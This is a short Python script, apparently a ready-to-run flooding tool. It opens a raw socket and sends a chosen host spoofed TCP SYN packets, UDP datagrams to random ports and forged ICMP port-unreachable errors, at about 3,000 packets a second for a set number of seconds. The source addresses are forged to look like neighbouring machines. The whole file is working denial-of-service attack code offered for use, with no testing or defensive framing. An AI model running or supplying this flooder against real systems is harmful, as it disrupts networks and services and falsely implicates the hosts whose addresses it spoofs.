"""Floods a host for some seconds: flood.py HOST SECONDS; SYNs and datagrams to random ports, some
with the addresses of neighbours, and ICMP errors about nothing; 3,000 packets a second."""

import random
import socket
import struct
import sys
import time

RATE = 3000
BATCH = 30


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip(src, dst, proto, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, proto, 0, src, dst)
    return head + payload


def syn(src, dst):
    ports = struct.pack("!HH", random.randrange(1024, 65536), random.randrange(1, 65536))
    tcp = ports + struct.pack("!IIBBHHH", random.getrandbits(32), 0, 0x50, 2, 8192, 0, 0)
    total = checksum(src + dst + struct.pack("!HH", 6, len(tcp)) + tcp)
    return ip(src, dst, 6, tcp[:16] + struct.pack("!H", total) + tcp[18:])


def datagram(src, dst):
    ports = struct.pack("!HH", random.randrange(1024, 65536), random.randrange(1, 65536))
    return ip(src, dst, 17, ports + struct.pack("!HH", 8, 0))


def error(src, dst):
    about = ip(dst, src, 17, struct.pack("!HHHH", random.randrange(65536), 53, 8, 0))
    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + about
    return ip(src, dst, 1, icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:])


def main():
    dst = socket.inet_aton(sys.argv[1])
    end = time.monotonic() + float(sys.argv[2])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while time.monotonic() < end:
        begin = time.monotonic()
        for _ in range(BATCH):
            src = bytes([10, 1, 0, random.randrange(2, 250)])
            packet = random.choice((syn, syn, datagram, datagram, error))(src, dst)
            try:
                raw.sendto(packet, (sys.argv[1], 0))
            except OSError:
                pass
        time.sleep(max(0, BATCH / RATE - (time.monotonic() - begin)))


main()
